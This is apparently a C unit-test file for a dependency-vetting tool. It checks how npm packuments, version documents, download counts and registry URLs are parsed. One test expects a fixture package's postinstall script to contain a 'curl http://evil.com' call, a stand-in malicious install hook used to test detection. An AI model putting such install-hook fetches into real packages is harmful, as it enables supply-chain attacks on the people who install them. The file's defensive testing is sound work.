/* npm packuments, version documents and download counts. */
#include <criterion/criterion.h>
#include <string.h>

#include "depvet/core/timeutil.h"
#include "depvet/registry/npm.h"
#include "reg_test.h"

static struct reg_package *packument(struct arena *a, const char *sub, bool corpus)
{
    size_t len;
    char *body = corpus ? reg_corpus(sub, &len) : reg_fixture(sub, &len);
    struct diag d;
    diag_clear(&d);
    struct reg_package *p = NULL;
    bool ok = npm_parse_packument(a, sub, body, len, &p, &d);
    free(body);
    cr_assert(ok, "%s: %s (%s)", sub, d.msg, d.pointer);
    return p;
}

static const struct reg_dep *dep_named(const struct reg_release *r, const char *name)
{
    for (size_t i = 0; i < r->n_deps; i++)
        if (strcmp(r->deps[i].name, name) == 0)
            return &r->deps[i];
    return NULL;
}

Test(registry_npm, is_stream_publisher_time_integrity)
{
    struct arena *a = arena_new();
    struct reg_package *p = packument(a, "npm/packument-is-stream.dependabot.json", true);
    cr_expect_eq(p->eco, ECO_NPM);
    cr_expect_str_eq(p->name, "is-stream");
    cr_expect_str_eq(p->latest_version, "3.0.0");
    cr_expect_str_eq(p->license, "MIT");
    cr_expect_str_eq(p->repository, "https://github.com/sindresorhus/is-stream");
    cr_expect_eq(p->created, 1421607567);
    cr_expect_eq(p->n_releases, 6);
    cr_assert_eq(p->n_owners, 1);
    cr_expect_str_eq(p->owners[0].name, "sindresorhus");
    cr_expect_str_eq(p->owners[0].email, "sindresorhus@gmail.com");
    const struct reg_release *r = reg_package_find_release(p, "3.0.0");
    cr_assert_not_null(r);
    cr_expect_str_eq(r->publisher.name, "sindresorhus");
    int64_t t;
    cr_assert(timeutil_parse("2021-08-10T10:52:14.251Z", &t));
    cr_expect_eq(r->published, t);
    cr_expect(strncmp(r->integrity, "sha512-LnQR4bZ9IADDR", 20) == 0);
    cr_expect_not(r->deprecated);
    cr_expect_not(p->deprecated);
    arena_free(a);
}

Test(registry_npm, etag_deprecated_versions)
{
    struct arena *a = arena_new();
    struct reg_package *p = packument(a, "npm/packument-etag-deprecated.dependabot.json", true);
    const struct reg_release *r = reg_package_find_release(p, "1.0.0");
    cr_assert_not_null(r);
    cr_expect(r->deprecated);
    cr_expect_str_eq(r->status_message, "Switch to elm");
    cr_expect_str_eq(r->publisher.name, "kesla");
    cr_expect_str_eq(r->shasum, "db9f9610cc2bf22036d713012dff4aa7e0c96162");
    arena_free(a);
}

Test(registry_npm, install_scripts_appear)
{
    struct arena *a = arena_new();
    struct reg_package *p =
        packument(a, "npm/shape-only/packument-install-scripts.dependabot.json", true);
    const struct reg_release *r = reg_package_find_release(p, "1.0.0");
    cr_assert_not_null(r);
    cr_expect_eq(r->n_scripts, 0, "a test script is not an install script");
    cr_expect_not(r->has_install_script);
    r = reg_package_find_release(p, "1.3.0");
    cr_assert_not_null(r);
    cr_assert_eq(r->n_scripts, 2);
    cr_expect_str_eq(r->scripts[0].phase, "preinstall");
    cr_expect_str_eq(r->scripts[1].phase, "postinstall");
    cr_expect(strstr(r->scripts[1].command, "curl http://evil.com") != NULL);
    cr_expect(r->has_install_script);
    arena_free(a);
}

Test(registry_npm, mirror_chalk_and_scoped_colors)
{
    struct arena *a = arena_new();
    struct reg_package *p = packument(a, "npm/mirror/packument-chalk.json", true);
    cr_expect_eq(p->n_releases, 45);
    cr_expect_str_eq(p->latest_version, "6.0.1");
    cr_expect_not_null(p->license, "taken from the latest version");
    const struct reg_release *r = reg_package_find_release(p, "4.1.2");
    cr_assert_not_null(r);
    cr_expect_str_eq(r->integrity, "sha512-oKnbhFyRIXpUuez8iBMmyEa4nbj4IOQyuhc/wy9kY7/"
                                   "WVPcwIO9VA668Pu8RkO7+0G76SLROeyw9CpQ061i4mA==");
    const struct reg_dep *ansi = dep_named(r, "ansi-styles");
    cr_assert_not_null(ansi);
    cr_expect_str_eq(ansi->requirement, "^4.1.0");
    cr_expect_eq(ansi->kind, REG_DEP_RUNTIME);
    cr_expect_gt(r->published, 0, "+00:00 times parse");
    p = packument(a, "npm/mirror/packument-es5-ext.json", true);
    r = reg_package_find_release(p, "0.10.54");
    cr_assert_not_null(r);
    cr_assert_eq(r->n_scripts, 1);
    cr_expect_str_eq(r->scripts[0].command, "node ./_postinstall.js");
    p = packument(a, "npm/mirror/packument-colors__colors.json", true);
    cr_expect_str_eq(p->name, "@colors/colors");
    arena_free(a);
}

Test(registry_npm, abbreviated_and_version_document)
{
    struct arena *a = arena_new();
    struct reg_package *p =
        packument(a, "npm/docs-sample-tiny-tarball.abbreviated.json", true);
    cr_expect_eq(p->n_releases, 1);
    int64_t t;
    cr_assert(timeutil_parse("2015-05-16T22:27:54.741Z", &t));
    cr_expect_eq(p->modified, t);
    cr_expect_str_eq(p->releases[0].archive_url,
                     "https://registry.npmjs.org/tiny-tarball/-/tiny-tarball-1.0.0.tgz");
    size_t len;
    char *body = reg_corpus("npm/version-etag-1.0.0.dependabot.json", &len);
    struct diag d;
    diag_clear(&d);
    struct reg_release *r = NULL;
    cr_assert(npm_parse_version(a, "u", body, len, &r, &d), "%s", d.msg);
    cr_expect_str_eq(r->version, "1.0.0");
    cr_expect_str_eq(r->publisher.name, "kesla");
    cr_expect_str_eq(r->license, "MIT");
    free(body);
    arena_free(a);
}

Test(registry_npm, downloads_point_and_range)
{
    struct arena *a = arena_new();
    struct diag d;
    diag_clear(&d);
    struct reg_package *p = NULL;
    size_t len;
    char *body = reg_corpus("npm/downloads-point-jquery-2023-01.docs-sample.json", &len);
    cr_assert(npm_parse_downloads_point(a, "u", body, len, &p, &d), "%s", d.msg);
    cr_expect_str_eq(p->name, "jquery");
    cr_expect_eq(p->downloads.month, 31623);
    cr_expect_eq(p->downloads.week, REG_UNKNOWN);
    free(body);
    body = reg_corpus("npm/downloads-range-abridged.docs-sample.json", &len);
    cr_assert(npm_parse_downloads_range(a, "u", body, len, &p, &d), "%s", d.msg);
    cr_assert_eq(p->n_series, 2);
    cr_expect_eq(p->series[1].count, 7904294);
    cr_expect_lt(p->series[0].day, p->series[1].day);
    cr_expect_eq(p->downloads.recent, 1904088 + 7904294);
    cr_expect_eq(p->downloads.recent_days, 8);
    free(body);
    const char *week = "{\"downloads\":5,\"start\":\"2024-01-01\",\"end\":\"2024-01-07\","
                       "\"package\":\"x\"}";
    cr_assert(npm_parse_downloads_point(a, "u", week, strlen(week), &p, &d), "%s", d.msg);
    cr_expect_eq(p->downloads.week, 5);
    const char *err = "{\"error\":\"package x not found\"}";
    cr_expect_not(npm_parse_downloads_point(a, "u", err, strlen(err), &p, &d));
    cr_expect_eq(d.code, DIAG_UNSUPPORTED);
    arena_free(a);
}

Test(registry_npm, fixture_kinds_licences_unpublished)
{
    struct arena *a = arena_new();
    struct reg_package *p = packument(a, "npm-packument-kinds.json", false);
    cr_expect_str_eq(p->license, "MIT OR Apache-2.0");
    cr_expect_str_eq(p->repository, "https://github.com/someone/kinds");
    cr_expect(p->deprecated, "every version deprecated");
    cr_expect_str_eq(p->deprecation_message, "gone");
    const struct reg_release *r = reg_package_find_release(p, "2.0.0");
    cr_assert_not_null(r);
    cr_expect_str_eq(r->license, "ISC");
    cr_expect(r->has_install_script, "abbreviated flag");
    cr_expect_eq(r->n_deps, 4);
    const struct reg_dep *fs = dep_named(r, "fsevents");
    cr_assert_not_null(fs);
    cr_expect_eq(fs->kind, REG_DEP_OPTIONAL, "optional wins over its dependencies copy");
    cr_expect(fs->optional);
    const struct reg_dep *react = dep_named(r, "react");
    cr_assert_not_null(react);
    cr_expect_eq(react->kind, REG_DEP_PEER);
    cr_expect(react->optional, "peerDependenciesMeta optional");
    cr_expect_eq(dep_named(r, "tap")->kind, REG_DEP_DEV);
    cr_expect_str_eq(r->publisher.email, "o@example.org");
    cr_expect_str_eq(r->shasum, "abcdef");
    cr_expect_eq(p->n_owners, 1);
    arena_free(a);
}

Test(registry_npm, wrong_types_truncation_empty)
{
    struct arena *a = arena_new();
    struct diag d;
    struct reg_package *p = NULL;
    static const struct { const char *json, *ptr; } bad_table[] = {
        {"{\"name\":\"x\",\"versions\":{\"1.0.0\":{\"dependencies\":{\"@a/b\":1}}}}",
         "/versions/1.0.0/dependencies/@a~1b"},
        {"{\"name\":\"x\",\"versions\":{\"1.0.0\":{\"scripts\":{\"postinstall\":[]}}}}",
         "/versions/1.0.0/scripts/postinstall"},
        {"{\"name\":\"x\",\"versions\":{\"1.0.0\":{\"dist\":{\"integrity\":false}}}}",
         "/versions/1.0.0/dist/integrity"},
        {"{\"name\":\"x\",\"versions\":{\"1.0.0\":{\"deprecated\":7}}}",
         "/versions/1.0.0/deprecated"},
        {"{\"name\":\"x\",\"time\":{\"1.0.0\":\"yesterday\"}}", "/time/1.0.0"},
        {"{\"name\":\"x\",\"dist-tags\":{\"latest\":1}}", "/dist-tags/latest"},
        {"{\"name\":\"x\",\"license\":3}", "/license"},
        {"{\"name\":\"x\",\"versions\":{\"1\":3}}", "/versions/1"},
    };
    for (size_t i = 0; i < sizeof(bad_table) / sizeof(*bad_table); i++) {
        diag_clear(&d);
        cr_expect_not(npm_parse_packument(a, "u", bad_table[i].json,
                                          strlen(bad_table[i].json), &p, &d), "%zu", i);
        REG_EXPECT_FAIL_AT(d, bad_table[i].ptr);
    }
    diag_clear(&d);
    cr_expect_not(npm_parse_packument(a, "u", "{\"name\":\"x\",\"versions\":{", 24, &p, &d));
    cr_expect_eq(d.code, DIAG_SYNTAX);
    diag_clear(&d);
    cr_assert(npm_parse_packument(a, "u", "{}", 2, &p, &d), "%s", d.msg);
    cr_expect_eq(p->n_releases, 0);
    cr_expect_not(p->deprecated);
    const char *nf = "{\"error\":\"Not found\"}";
    diag_clear(&d);
    cr_expect_not(npm_parse_packument(a, "u", nf, strlen(nf), &p, &d));
    cr_expect_str_eq(d.msg, "registry error: Not found");
    arena_free(a);
}

Test(registry_npm, urls)
{
    struct arena *a = arena_new();
    cr_expect_str_eq(npm_packument_url(a, NPM_REGISTRY_BASE, "@colors/colors"),
                     "https://registry.npmjs.org/@colors%2Fcolors");
    cr_expect_str_eq(npm_packument_url(a, NPM_REGISTRY_BASE "/", "left-pad"),
                     "https://registry.npmjs.org/left-pad");
    cr_expect_str_eq(npm_version_url(a, NPM_REGISTRY_BASE, "etag", "1.0.0"),
                     "https://registry.npmjs.org/etag/1.0.0");
    cr_expect_str_eq(npm_downloads_point_url(a, NPM_DOWNLOADS_BASE, "last-week", "ms"),
                     "https://api.npmjs.org/downloads/point/last-week/ms");
    cr_expect_str_eq(npm_downloads_range_url(a, NPM_DOWNLOADS_BASE, "2024-01-01",
                                             "2024-06-30", "@a/b"),
                     "https://api.npmjs.org/downloads/range/2024-01-01:2024-06-30/@a%2Fb");
    arena_free(a);
}

/* A registry answer with a key given twice is read as npm reads it (the
 * last one), not as cJSON's lookups would (the first). */
Test(registry_npm, duplicate_keys_read_the_last)
{
    struct arena *a = arena_new();
    struct diag d;
    diag_clear(&d);
    struct reg_package *p = NULL;
    const char *body =
        "{\"name\":\"x\",\"dist-tags\":{\"latest\":\"1.0.0\",\"latest\":\"2.0.0\"},"
        "\"versions\":{\"1.0.0\":{\"version\":\"1.0.0\"},"
        "\"2.0.0\":{\"version\":\"2.0.0\",\"scripts\":{\"postinstall\":\"true\"},"
        "\"scripts\":{}}}}";
    cr_assert(npm_parse_packument(a, "u", body, strlen(body), &p, &d), "%s", d.msg);
    cr_assert_str_eq(p->latest_version, "2.0.0");
    cr_assert_eq(p->n_releases, 2);
    const struct reg_release *r = reg_package_find_release(p, "2.0.0");
    cr_assert_not_null(r);
    cr_assert_eq(r->n_scripts, 0, "the later, empty scripts object is the one npm reads");
    arena_free(a);
}
